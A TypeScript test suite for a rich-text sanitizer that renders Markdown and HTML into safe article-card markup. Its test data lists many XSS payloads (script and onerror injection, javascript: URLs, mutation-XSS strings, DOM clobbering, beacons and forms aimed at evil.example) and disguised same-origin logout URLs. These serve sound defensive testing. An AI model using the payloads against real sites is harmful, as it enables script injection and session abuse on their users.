import {expect} from 'chai';
import {Lexer} from 'marked';
import {richText, type RichTextOptions} from '../../src/rich-text/rich-text.js';

const alerts = {note: 'Note', tip: 'Tip', important: 'Important', warning: 'Warning', caution: 'Caution'};
const baseOptions = {
  base: 'https://clinic.example/articles/one.json',
  headingLevel: 3,
  imageHosts: ['images.example.org'],
  words: {table: 'Table', image: 'No image', notShown: 'Not shown', alerts},
};

async function renderToHtml(source: string, options: Partial<RichTextOptions> = {}): Promise<string> {
  const {fragment} = await richText(source, {...baseOptions, type: 'markdown', ...options});
  const place = document.createElement('div');
  place.append(fragment);
  return place.innerHTML.trim();
}

const renderHtmlSource = (source: string): Promise<string> => renderToHtml(source, {type: 'html'});

describe('rich text', () => {
  it('preserves allowed elements', async () => {
    expect(await renderToHtml('**bold** and *slanted*, `code`')).to.equal(
      '<p><strong>bold</strong> and <em>slanted</em>, <code>code</code></p>',
    );
    expect(await renderToHtml('1. one\n2. two'))
      .to.contain('<ol>')
      .and.to.contain('<li>one</li>');
    expect(await renderToHtml('- [x] done'))
      .to.contain('☑ done')
      .and.not.to.contain('<input');
  });

  it('shifts headings below the card’s level and resolves links to them', async () => {
    const {fragment, anchors} = await richText('# Top\n\n## Below it\n\n[there](#below-it) [nowhere](#else)', {
      ...baseOptions,
      type: 'markdown',
    });
    expect([...fragment.children].map((one) => one.localName)).to.deep.equal(['h3', 'h4', 'p']);
    expect(anchors.get('below-it')?.textContent).to.equal('Below it');
    expect([...fragment.querySelectorAll('a')].map((one) => one.getAttribute('href'))).to.deep.equal([
      '#below-it',
      null,
    ]);
  });

  it('sanitizes raw HTML in Markdown', async () => {
    expect(await renderToHtml('H<sub>2</sub>O')).to.equal('<p>H<sub>2</sub>O</p>');
    expect(await renderToHtml('<sub onclick="x">2</sub>')).to.equal('<p><sub>2</sub></p>');
    expect(await renderToHtml('Sit <img src=//evil.example/x onerror=alert(1)> up')).to.equal(
      '<p>Sit <span class="no-image">No image</span> up</p>',
    );
    expect(await renderToHtml('<div style="color:red">a</div>')).to.equal('<div>a</div>');
    expect(await renderToHtml('a <!-- a note --> b')).to.equal('<p>a  b</p>');
    expect(await renderToHtml('<details><summary>More</summary>\n\n*inside*\n\n</details>'))
      .to.contain('<details><summary>More</summary>')
      .and.to.contain('<em>inside</em>');
  });

  it('sets link targets and referrer policy', async () => {
    expect(await renderToHtml('[out](https://example.org/a)')).to.equal(
      '<p><a href="https://example.org/a" rel="noopener noreferrer nofollow ugc" referrerpolicy="no-referrer" class="external">out</a></p>',
    );
    expect(await renderToHtml('[near](../two.html)'))
      .to.contain('href="https://clinic.example/two.html"')
      .and.not.to.contain('external');
    expect(await renderToHtml('[call](tel:116123)')).to.contain('href="tel:116123"');
  });

  for (const address of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#10;script:alert(1)',
    '&#x6a;avascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'blob:https://clinic.example/x',
    'file:///etc',
    ' javascript:x',
    'sms:999',
    'cid:x',
  ]) {
    it(`shows a link to ${address} as text only`, async () => {
      for (const html of [
        await renderToHtml(`[words](<${address}>)`),
        await renderHtmlSource(`<a href="${address}">words</a>`),
      ]) {
        expect(html).to.contain('words');
        expect(/href="(?!https:\/\/clinic\.example\/)/.test(html), html).to.equal(false);
      }
    });
  }

  it('shows images of the document’s origin and allowed hosts, and the alternative text of others', async () => {
    expect(await renderToHtml('![a](/pictures/a.png)'))
      .to.contain('src="https://clinic.example/pictures/a.png"')
      .and.to.contain('loading="lazy"')
      .and.to.contain('referrerpolicy="no-referrer"');
    expect(await renderToHtml('![b](https://images.example.org/b.png)')).to.contain('<img');
    expect(await renderToHtml('![c](https://images.example.org.evil.example/c.png)')).to.equal(
      '<p><span class="no-image">c</span></p>',
    );
    expect(await renderToHtml('![](data:image/png;base64,AAAA)')).to.equal(
      '<p><span class="no-image">No image</span></p>',
    );
  });

  const renderOnOwnOrigin = (source: string, options?: Partial<RichTextOptions>): Promise<string> =>
    renderToHtml(source, {base: `${location.origin}/articles/one.json`, ...options});

  for (const address of [
    'pictures/a.png',
    '/wp-content/uploads/2026/a-1024x683.JPEG?ver=1.2&w=300',
    '/sites/default/files/styles/large/public/a.webp?itok=Ab_1',
    '/v1.2/a.svg',
  ])
    it(`shows the image ${address} of the page’s own origin`, async () => {
      expect(await renderOnOwnOrigin(`![a](${address})`)).to.contain(`/${address.replace(/^\//, '').split('&')[0]!}`);
      expect(await renderOnOwnOrigin(`<img src="${address}">`, {type: 'html'})).to.contain('<img');
    });

  for (const address of [
    '/logout',
    '../logout/',
    '?logout',
    '/logout#a.png',
    '/logout?a.png',
    '/logout;a.png',
    '/logout%3ba.png',
    '/logout%3Fa.png',
    '/logout%2Fa.png',
    '/logout.php/a.png',
    '/logout.aspx/a.png',
    '/a.png?logout',
    '/a.png?v=1&action=logout',
    '/a.png/logout',
  ])
    it(`does not request ${address} of the page’s own origin as an image, because cookies would be sent`, async () => {
      for (const text of [
        `![a](${address})`,
        `![a](${location.origin}${new URL(address, `${location.origin}/x/`).href.slice(location.origin.length)})`,
      ])
        expect(await renderOnOwnOrigin(text)).to.equal('<p><span class="no-image">a</span></p>');
      expect(await renderOnOwnOrigin(`<img alt="a" src="${address}">`, {type: 'html'})).not.to.contain('<img');
    });

  const hostile: readonly [name: string, html: string][] = [
    ['scripts', '<script>alert(1)</script><script src=//evil.example></script>'],
    ['handlers', '<p onclick=a onmouseover=b>t</p><img src=/x onerror=alert(1)><details ontoggle=x open>t</details>'],
    [
      'styles',
      '<p style="position:fixed">t</p><style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
    ],
    [
      'forms',
      '<form action=//evil.example><input name=password><button>go</button><select><option>a</select><textarea>t</textarea></form>',
    ],
    [
      'frames and media',
      '<iframe src=//evil.example></iframe><object data=x></object><embed src=x><video src=//evil.example poster=//evil.example></video><audio src=x></audio>',
    ],
    [
      'other namespaces',
      '<svg><a xlink:href="javascript:x"><text>t</text></a><script>1</script></svg><math><mtext><mglyph><style><img src onerror=x></style></mglyph></mtext></math>',
    ],
    ['clobbering', '<a id=defaultView name=cookie href=/x>t</a><img name=body src=/x><p id=sm-article-card>t</p>'],
    [
      'slots, parts and custom elements',
      '<p slot=x part=card class=card is=sm-x exportparts=y>t</p><sm-mood-check submit-to=//evil.example></sm-mood-check><x-y>t</x-y><slot name=x></slot><template shadowrootmode=open>t</template>',
    ],
    [
      'beacons',
      '<a ping=//evil.example href=/x>t</a><img srcset="//evil.example 2x" src=/x><body background=//evil.example><table background=//evil.example><tr><td background=x>t</table><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    ],
    [
      'a second page',
      '<html title=x><head><body title=x><p>t<body lang=y>t</body><table><body><tr><td><body><svg><body><p>t</svg><math><body></math><template><body><p>t</template><frameset><frame src=//evil.example></frameset>',
    ],
    [
      'roles and tab order',
      '<p role=alert tabindex=1 aria-label=x aria-hidden=true data-x=1 contenteditable accesskey=x autofocus hidden>t</p>',
    ],
    [
      'mutation',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ],
  ];
  const allowed =
    /^(href|src|alt|title|lang|dir|start|reversed|colspan|rowspan|scope|align|datetime|open|rel|referrerpolicy|class|loading|decoding|tabindex|role|aria-label)$/;

  for (const [name, html] of hostile) {
    it(`removes dangerous markup: ${name}`, async () => {
      for (const type of ['html', 'markdown'] as const) {
        const {fragment} = await richText(html, {...baseOptions, type});
        expect(
          fragment.querySelectorAll(
            'script,style,link,meta,base,form,input,button,select,textarea,iframe,object,embed,video,audio,svg,math,slot,template,html,head,body,frameset,frame,[id],[name],[style],[is],[slot],[part]',
          ),
        ).to.have.lengthOf(0);
        for (const element of fragment.querySelectorAll('*')) {
          expect(element.localName).to.not.contain('-');
          for (const {name: attribute, value} of element.attributes) {
            expect(attribute).to.match(allowed);
            if (attribute === 'class') expect(value).to.match(/^(external|no-image|scroll)$/);
            if (attribute === 'tabindex' || attribute === 'role') expect(element.className).to.equal('scroll');
          }
        }
      }
    });
  }

  it('rejects a body with too many elements', async () => {
    const refusal = (body: string): Promise<string> =>
      richText(body, {...baseOptions, type: 'markdown'}).then(
        () => 'shown',
        (error: unknown) => (error as Error).message,
      );
    expect(await refusal('*a* *b*\n\n'.repeat(2000))).to.equal(
      'article.body should have at most 5000 elements, but has more',
    );
    expect(await refusal('- a\nb\n'.repeat(3000))).to.equal(
      'article.body should have at most 5000 lines, but has more',
    );
  });

  it('rejects a table with too many cells before it reads them', async () => {
    let cellsRead = 0;
    const read = Lexer.prototype.inlineTokens;
    Lexer.prototype.inlineTokens = function (...args) {
      cellsRead += 1;
      return read.apply(this, args);
    };
    const body = `|a|b|c|\n|-|-|-|\n${'|x|y|z|\n'.repeat(1800)}`;
    try {
      const reason = await richText(body, {...baseOptions, type: 'markdown'}).then(
        () => 'shown',
        (error: unknown) => (error as Error).message,
      );
      expect(reason).to.equal('article.body should have at most 5000 elements, but has more');
    } finally {
      Lexer.prototype.inlineTokens = read;
    }
    expect(cellsRead).to.equal(0);
  });

  it('flattens details elements that are nested too deeply', async () => {
    const html = await renderHtmlSource(`${'<details>'.repeat(300)}x${'</details>'.repeat(300)}`);
    expect(html.match(/<details>/g)).to.have.lengthOf(5);
  });

  it('shows markup that is nested too deeply as text', async () => {
    expect(await renderToHtml(`${'> '.repeat(60)}end`)).to.contain('&gt; end');
    expect(await renderToHtml(`${'- '.repeat(3000)}end`)).to.contain('end');
  });

  it('stops when its signal is aborted', async () => {
    const stop = new AbortController();
    const work = richText(`${'*a **a '.repeat(500)}\n\n`.repeat(40), {
      ...baseOptions,
      type: 'markdown',
      signal: stop.signal,
    }).then(
      () => 'done',
      (error: unknown) => (error as Error).name,
    );
    stop.abort();
    expect(await work).to.equal('AbortError');
  });
});
